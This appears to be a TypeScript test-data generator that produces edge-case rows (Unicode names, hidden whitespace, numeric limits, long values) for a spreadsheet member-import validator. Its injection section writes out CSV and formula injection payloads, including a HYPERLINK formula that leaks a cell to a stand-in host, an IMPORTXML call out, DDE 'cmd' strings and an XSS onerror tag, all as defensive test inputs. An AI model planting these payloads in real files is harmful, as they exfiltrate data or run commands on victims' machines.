import { CORPUS_TIME_ZONE } from "./basePerson";
import {
  CORPUS_COLUMNS,
  MEMBER_COLUMNS,
  type CorpusCell,
  type CorpusColumn,
  type CorpusRow,
  type Expected,
  type MemberColumn,
  type MemberExpectation,
} from "./model";
import { includeProblem, keepsRowIn, leavesRowOut, verdictOf } from "./rules";
import { SAYS } from "./sentences";
import { sheetValueOf } from "./sheetCells";
import { seededRandom } from "../support/seededRandom";

/**
 * Generated corpus rows: each changes one cell of its base person, and takes its expected
 * outcome from the rules of product.md §4 as rules.ts writes them out, never from the code
 * under test. Seeded, so the corpus is the same on every run.
 */

const MEMBER_KEY: Record<MemberColumn, keyof MemberExpectation> = {
  "Employee ID": "reference_id",
  "First Name": "first_name",
  "Last Name": "last_name",
  DOB: "date_of_birth",
  Email: "email",
  Phone: "phone",
  Plan: "plan_id",
  Address: "address_line_1",
  Apt: "address_line_2",
  City: "city",
  State: "state",
  ZIP: "zipcode",
};

const OPTIONAL: ReadonlySet<CorpusColumn> = new Set(["Email", "Apt"]);

/** The documented outcome of a row whose only change from its base person is `cell` in `column`. */
export function expectedForCell(column: CorpusColumn, cell: CorpusCell): Expected {
  const read = sheetValueOf(cell, CORPUS_TIME_ZONE);
  if (column === "Notes") return { status: "Ready" };
  if (column === "Include") {
    if (leavesRowOut(read)) return { status: "Excluded" };
    return keepsRowIn(read) ? { status: "Ready" } : { status: "Invalid", problems: [[column, includeProblem(read)]] };
  }
  const verdict = verdictOf(column, read);
  const key = MEMBER_KEY[column];
  switch (verdict.kind) {
    case "blank":
      return OPTIONAL.has(column)
        ? { status: "Ready", member: { [key]: null } }
        : { status: "Invalid", problems: [[column, SAYS.empty]] };
    case "value":
      return { status: "Ready", member: { [key]: verdict.value }, ...(verdict.repaired ? { repaired: [column] } : {}) };
    case "problem":
      return { status: "Invalid", problems: [[column, verdict.says]] };
  }
}

function rowWith(why: string, column: CorpusColumn, cell: CorpusCell): CorpusRow {
  return { why, cells: { [column]: cell }, expected: expectedForCell(column, cell) };
}

// ---- Formulas and CSV injection in every column ----------------------------------------------------

/** Typed, these become formulas; in a plain-text cell they stay text. */
const FORMULAS = [
  "=1+1",
  '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("https://evil.example/x","//a")',
];

/** Typed, these stay text in the sandbox (OWASP's other openers, and markup). */
const TYPED_INJECTIONS = [
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=2+2",
  "\r=3+3",
  "<img src=x onerror=alert(1)>",
];

function injectionRows(): CorpusRow[] {
  return CORPUS_COLUMNS.flatMap((column) => [
    ...FORMULAS.slice(0, 2).map((formula) => rowWith(`the formula ${formula} typed into ${column}`, column, formula)),
    ...FORMULAS.map((formula) =>
      rowWith(`the text ${formula} in a plain-text ${column} cell`, column, { text: formula }),
    ),
    ...TYPED_INJECTIONS.map((text) => rowWith(`${JSON.stringify(text)} typed into ${column}`, column, text)),
  ]);
}

// ---- Unicode names with pasted whitespace ------------------------------------------------------------

const FIRST_NAMES = [
  "Zoë",
  "José",
  "Øystein",
  "Łucja",
  "Ştefan",
  "小龍",
  "太郎",
  "민준",
  "محمد",
  "דוד",
  "Ana 🌻",
  "Nguyễn Văn",
];
const LAST_NAMES = [
  "Ñúñez",
  "Müller-Lüdenscheidt",
  "O'Brien",
  "李",
  "山田",
  "김",
  "الحسن",
  "כהן",
  "Đặng",
  "Smith 👩\u200D💻",
];
const CITIES = ["São Paulo", "Montréal", "Zürich", "東京", "القاهرة", "Cañon City"];
/** What HR systems and web pages leave around and inside names. */
const NOISE = [" ", "  ", "\u00A0", "\u202F", "\u200B", "\u2060", "\uFEFF", "\t", "\u3000"];

function noisy(text: string, random: () => number): string {
  const pick = () => NOISE[Math.floor(random() * NOISE.length)] as string;
  return `${pick()}${text.split(" ").join(`${pick()} ${pick()}`)}${pick()}`;
}

function unicodeNameRows(random: () => number): CorpusRow[] {
  const rows: CorpusRow[] = [];
  for (let i = 0; i < 24; i++) {
    const column: CorpusColumn = i % 3 === 0 ? "First Name" : i % 3 === 1 ? "Last Name" : "City";
    const names = column === "First Name" ? FIRST_NAMES : column === "Last Name" ? LAST_NAMES : CITIES;
    const name = names[Math.floor(random() * names.length)] as string;
    rows.push(rowWith(`the ${column} ${name} with pasted whitespace around and inside`, column, noisy(name, random)));
  }
  return rows;
}

// ---- Whitespace around every column's value -------------------------------------------------------

const WRAPPERS: ReadonlyArray<readonly [string, string]> = [
  [" ", " "],
  ["\u00A0", "\u00A0"],
  ["\u200B", ""],
  ["", "\u2060"],
  ["\t", "\n"],
];

function valueToWrap(column: MemberColumn, k: number): string {
  switch (column) {
    case "Employee ID":
      return `WS-${k}`;
    case "DOB":
      return "1979-02-28";
    case "Email":
      return `Wrapped.${k}@Example.com`;
    case "Phone":
      return "(212) 555-0187";
    case "Plan":
      return "Family Care";
    case "State":
      return "ny";
    case "ZIP":
      return "10001";
    default:
      return `Wrapped ${column} ${k}`;
  }
}

function whitespaceRows(): CorpusRow[] {
  let k = 0;
  return MEMBER_COLUMNS.flatMap((column) =>
    WRAPPERS.map(([before, after]) => {
      const text = `${before}${valueToWrap(column, ++k)}${after}`;
      return rowWith(`${JSON.stringify(text)} in ${column}: invisible and edge whitespace`, column, text);
    }),
  );
}

// ---- Numbers at the edges ---------------------------------------------------------------------------

const NUMBER_CELLS: ReadonlyArray<readonly [MemberColumn, CorpusCell]> = [
  ["Employee ID", { number: -0 }],
  ["Employee ID", { number: 7 }],
  ["Employee ID", "1E3"],
  ["Employee ID", "1,234,567"],
  ["Employee ID", "$1,003.00"],
  ["Employee ID", "50%"],
  ["Employee ID", { number: 2 ** 53 - 1 }],
  ["Employee ID", { number: 2 ** 53 }],
  ["Employee ID", "4.2E+25"],
  ["Employee ID", { number: -1001 }],
  ["Employee ID", { number: 1e-7 }],
  ["Phone", { number: 4155550100 }],
  ["Phone", { number: 14155550100 }],
  ["Phone", "4,155,550,100"],
  ["Phone", { number: -14155550100 }],
  ["Phone", { number: 415555010 }],
  ["Phone", { number: 0 }],
  ["Phone", { number: 1e-7 }],
  ["Phone", { number: 1.5 }],
  ["Phone", { number: 1155550100 }],
  ["Phone", "2.125550187E9"],
  ["ZIP", { number: 2134 }],
  ["ZIP", { number: 501 }],
  ["ZIP", { number: 941021234 }],
  ["ZIP", { number: 21341234 }],
  ["ZIP", { number: 5011234 }],
  ["ZIP", { number: 12 }],
  ["ZIP", { number: 1e10 }],
  ["ZIP", { number: 1e21 }],
  ["ZIP", { number: -0 }],
  ["ZIP", "9.4102E+4"],
  ["ZIP", "94,102"],
  ["DOB", { number: 1 }],
  ["DOB", { number: -1 }],
  ["DOB", { number: 60 }],
  ["DOB", { number: 33008.999 }],
  ["DOB", { number: 46349 }],
  ["DOB", { number: 46350 }],
  ["DOB", { number: 2958465 }],
  ["DOB", { number: 2958466 }],
  ["DOB", { number: 1e9 }],
  ["DOB", { number: -1e9 }],
  ["First Name", { number: 3.14 }],
  ["Last Name", { number: -7 }],
  ["City", { number: 1e21 }],
  ["Apt", { number: 12.5 }],
];

function numberRows(): CorpusRow[] {
  return NUMBER_CELLS.map(([column, cell]) => rowWith(`the number ${JSON.stringify(cell)} in ${column}`, column, cell));
}

// ---- Checkboxes and dates in every column ------------------------------------------------------------

const NOT_TEXT_CELLS: readonly CorpusCell[] = [
  "TRUE",
  "FALSE",
  { boolean: true },
  "3/4/2020",
  { date: "2020-03-04", hour: 9 },
];

function notTextRows(): CorpusRow[] {
  return CORPUS_COLUMNS.flatMap((column) =>
    NOT_TEXT_CELLS.map((cell) => rowWith(`${JSON.stringify(cell)} in ${column}`, column, cell)),
  );
}

// ---- Very long values ------------------------------------------------------------------------------

const LONG_COLUMNS: readonly MemberColumn[] = ["Employee ID", "First Name", "Last Name", "Address", "Apt", "City"];

function longRows(): CorpusRow[] {
  const rows: CorpusRow[] = [];
  LONG_COLUMNS.forEach((column, index) => {
    for (const length of [255, 256, 5_000]) {
      const text = `${column} ${index}-${length} `.padEnd(length, "é");
      rows.push(rowWith(`${length} characters in ${column}`, column, { text }));
    }
  });
  for (const column of ["Email", "Phone", "State", "ZIP"] as const) {
    rows.push(rowWith(`300 characters in ${column}`, column, { text: "9".repeat(300) }));
  }
  return rows;
}

/** The generated rows, the same for the same seed. */
export function generatedRows(seed = 20_261_123): CorpusRow[] {
  const random = seededRandom(seed);
  return [
    ...injectionRows(),
    ...unicodeNameRows(random),
    ...whitespaceRows(),
    ...numberRows(),
    ...notTextRows(),
    ...longRows(),
  ];
}
